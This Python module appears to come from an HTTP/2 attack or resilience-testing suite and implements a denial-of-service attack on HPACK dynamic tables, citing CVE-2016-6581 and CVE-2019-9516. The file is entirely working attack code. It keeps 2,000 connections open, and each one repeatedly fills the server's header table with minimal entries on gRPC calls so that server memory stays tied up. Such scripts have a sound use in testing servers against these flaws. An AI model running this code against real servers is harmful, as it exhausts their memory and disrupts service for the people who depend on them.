"""HPACK's dynamic table, filled on many connections (CVE-2016-6581, CVE-2019-9516): the server
keeps 4 KiB until the connection ends, in the smallest entries that there can be.

2,000 connections. Each fills its table with calls of 60 new fields, and fills it again every
second.
"""

import asyncio

from support import frames, grpc, hpack
from support.connection import Attack, Connection

CONNECTIONS = 2_000
# 4,096 bytes in entries of 34: a name of two letters, no value, and 32 bytes of overhead.
ENTRIES, ENTRIES_PER_CALL = 120, 60


async def attack(attack: Attack) -> None:
    await attack.keep(CONNECTIONS, fill_the_table, pause=1)


async def fill_the_table(connection: Connection, number: int) -> None:
    # The connections begin one after the other, within a second.
    await asyncio.sleep(number / CONNECTIONS)
    while not connection.is_closed:
        for first in range(0, ENTRIES, ENTRIES_PER_CALL):
            fields = range(first, first + ENTRIES_PER_CALL)
            block = hpack.request(grpc.CALL, scheme=connection.scheme)
            block += b"".join(hpack.indexed_literal(name(field), "") for field in fields)
            stream = connection.open_stream(block)
            connection.send_data(stream, grpc.message(b""), end=True)
        connection.write(frames.window_update(0, 1024))
        await asyncio.sleep(1)


def name(number: int) -> str:
    return chr(ord("a") + number // 26) + chr(ord("a") + number % 26)
